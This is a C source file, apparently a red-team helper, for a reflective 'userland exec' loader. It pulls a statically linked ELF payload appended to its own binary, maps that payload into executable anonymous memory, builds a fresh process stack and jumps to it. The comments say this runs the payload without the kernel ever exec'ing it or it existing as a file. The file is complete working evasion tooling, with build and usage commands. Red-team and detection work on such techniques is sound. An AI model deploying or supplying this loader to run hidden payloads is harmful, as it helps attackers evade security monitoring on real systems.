/* Round 8 red-team helper: a "userland exec" stub (reflective ELF loading).
 *
 * The stub is an ordinary small program; the payload -- a statically linked
 * ELF (busybox) -- is appended to the stub's own file, followed by its length
 * (8 bytes, little endian) and the magic "H7R8ULX\0".  At run time the stub
 * reads the payload from /proc/self/exe, maps its PT_LOAD segments at their
 * addresses in anonymous memory, builds a fresh process stack (argv, envp,
 * auxv) and jumps to the payload's entry point.  The kernel only ever exec'd
 * the stub: the program that runs afterwards was never exec'd, never opened
 * by a path of its own, and never existed as a file of its own.
 *
 *     gcc -O2 -Wall -Werror -o STUB r8_ulexec.c && cat /bin/busybox >> STUB && <len+magic> >> STUB
 *     STUB sh -c 'touch /tmp/x'      # argv[0] picks busybox's applet
 */
#define _GNU_SOURCE
#include <elf.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

extern char **environ;

static void die(const char *what) {
    perror(what);
    _exit(127);
}

int main(int argc, char **argv) {
    int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    struct stat st;
    if (fd < 0 || fstat(fd, &st) < 0) die("self");
    char tail[16];
    if (pread(fd, tail, 16, st.st_size - 16) != 16 || memcmp(tail + 8, "H7R8ULX", 8) != 0) die("payload");
    uint64_t len;
    memcpy(&len, tail, 8);
    if (len == 0 || len > (uint64_t)st.st_size - 16) die("payload length");
    unsigned char *elf = malloc(len);
    if (!elf || pread(fd, elf, len, st.st_size - 16 - (off_t)len) != (ssize_t)len) die("read payload");
    close(fd);

    Elf64_Ehdr *eh = (Elf64_Ehdr *)elf;
    if (memcmp(eh->e_ident, ELFMAG, SELFMAG) != 0 || eh->e_type != ET_EXEC) die("payload is not a static ET_EXEC");
    Elf64_Phdr *ph = (Elf64_Phdr *)(elf + eh->e_phoff);
    uint64_t lo = UINT64_MAX, hi = 0, phdr_va = 0;
    for (int i = 0; i < eh->e_phnum; i++) {
        if (ph[i].p_type != PT_LOAD) continue;
        if (ph[i].p_vaddr < lo) lo = ph[i].p_vaddr;
        if (ph[i].p_vaddr + ph[i].p_memsz > hi) hi = ph[i].p_vaddr + ph[i].p_memsz;
        if (eh->e_phoff >= ph[i].p_offset && eh->e_phoff < ph[i].p_offset + ph[i].p_filesz)
            phdr_va = ph[i].p_vaddr + (eh->e_phoff - ph[i].p_offset);
    }
    lo &= ~0xfffULL;
    hi = (hi + 0xfff) & ~0xfffULL;
    void *base = mmap((void *)lo, hi - lo, PROT_READ | PROT_WRITE | PROT_EXEC,
                      MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    if (base != (void *)lo) die("map segments");
    for (int i = 0; i < eh->e_phnum; i++)
        if (ph[i].p_type == PT_LOAD) memcpy((void *)ph[i].p_vaddr, elf + ph[i].p_offset, ph[i].p_filesz);

    /* the new process stack: argc, argv[], NULL, envp[], NULL, auxv pairs, AT_NULL */
    size_t ssize = 1 << 20;
    char *stk = mmap(NULL, ssize, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_GROWSDOWN, -1, 0);
    if (stk == MAP_FAILED) die("stack");
    int envc = 0;
    while (environ[envc]) envc++;
    uint64_t *rnd = (uint64_t *)(stk + ssize - 64);
    rnd[0] = 0x6837723875 ^ (uint64_t)getpid();
    rnd[1] = (uint64_t)(uintptr_t)&argc;
    size_t n = 1 + (size_t)argc - 1 + 1 + (size_t)envc + 1 + 2 * 12;
    uint64_t *sp = (uint64_t *)(((uintptr_t)(stk + ssize - 128) - n * 8) & ~0xfULL);
    uint64_t *p = sp;
    *p++ = (uint64_t)(argc - 1);
    for (int i = 1; i < argc; i++) *p++ = (uint64_t)(uintptr_t)argv[i];
    *p++ = 0;
    for (int i = 0; i < envc; i++) *p++ = (uint64_t)(uintptr_t)environ[i];
    *p++ = 0;
    uint64_t aux[][2] = {
        {AT_PHDR, phdr_va}, {AT_PHENT, sizeof(Elf64_Phdr)}, {AT_PHNUM, eh->e_phnum},
        {AT_PAGESZ, 4096}, {AT_ENTRY, eh->e_entry}, {AT_RANDOM, (uint64_t)(uintptr_t)rnd},
        {AT_UID, getuid()}, {AT_EUID, geteuid()}, {AT_GID, getgid()}, {AT_EGID, getegid()},
        {AT_HWCAP, getauxval(AT_HWCAP)}, {AT_NULL, 0},
    };
    for (size_t i = 0; i < sizeof aux / sizeof aux[0]; i++) {
        *p++ = aux[i][0];
        *p++ = aux[i][1];
    }
    __asm__ volatile("mov %0, %%rsp\n\txor %%edx, %%edx\n\tjmp *%1\n" ::"r"(sp), "r"(eh->e_entry) : "memory");
    __builtin_unreachable();
}
